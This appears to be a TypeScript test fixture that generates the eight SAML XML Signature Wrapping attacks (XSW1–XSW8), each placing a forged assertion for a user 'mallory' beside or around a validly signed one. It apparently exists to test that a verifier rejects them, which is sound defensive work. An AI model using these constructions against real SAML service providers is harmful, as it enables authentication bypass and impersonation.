import type { ResponseFields, SamlProvider } from '../../fixtures/saml-provider.ts';

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;

/** Puts an element into the signature, at its end. */
const inside = (signature: string, element: string): string =>
  signature.replace('</ds:Signature>', `${element}</ds:Signature>`);

const afterIssuer = (xml: string, element: string): string =>
  xml.replace('</saml:Issuer>', `</saml:Issuer>${element}`);

/**
 * The eight attacks of signature wrapping (Somorovsky et al., On Breaking SAML, 2012). Each keeps an element and its
 * valid signature in the message and adds a forged one for Mallory where a careless reader finds it first.
 */
export function wrappingAttacks(provider: SamlProvider, fields: ResponseFields): Record<string, string> {
  const forged: ResponseFields = {
    ...fields,
    assertionId: '_forged',
    nameId: 'mallory-0001',
    attributes: { ...fields.attributes, email: 'mallory@corp.example' },
  };
  const evil = provider.assertion(forged);
  const evilResponse = provider.response(forged, evil);

  const signedResponse = provider.sign(provider.response(fields, provider.assertion(fields)));
  const [responseSignature = ''] = SIGNATURE.exec(signedResponse) ?? [];
  const bareResponse = signedResponse.replace(SIGNATURE, '');

  const signedAssertion = provider.sign(provider.assertion(fields));
  const [signature = ''] = SIGNATURE.exec(signedAssertion) ?? [];
  const bare = signedAssertion.replace(SIGNATURE, '');
  const respond = (content: string) => provider.response(fields, content);
  const evilWith = (content: string) => evil.replace('</saml:Assertion>', `${content}</saml:Assertion>`);

  return {
    'XSW1: the signed response is inside the signature of a forged one': afterIssuer(
      evilResponse,
      inside(responseSignature, bareResponse),
    ),
    'XSW2: the signed response is beside its signature in a forged one': afterIssuer(
      evilResponse,
      `${bareResponse}${responseSignature}`,
    ),
    'XSW3: a forged assertion before the signed one': respond(evil + signedAssertion),
    'XSW4: the signed assertion inside a forged one': respond(evilWith(signedAssertion)),
    'XSW5: the signature moved to a forged assertion, its own behind it': respond(
      afterIssuer(evil, signature) + bare,
    ),
    'XSW6: the signed assertion inside the signature of a forged one': respond(
      afterIssuer(evil, inside(signature, bare)),
    ),
    'XSW7: a forged assertion in Extensions': respond(
      `<samlp:Extensions>${evil}</samlp:Extensions>${signedAssertion}`,
    ),
    'XSW8: the signed assertion in an Object of the signature of a forged one': respond(
      afterIssuer(evil, inside(signature, `<ds:Object>${bare}</ds:Object>`)),
    ),
  };
}
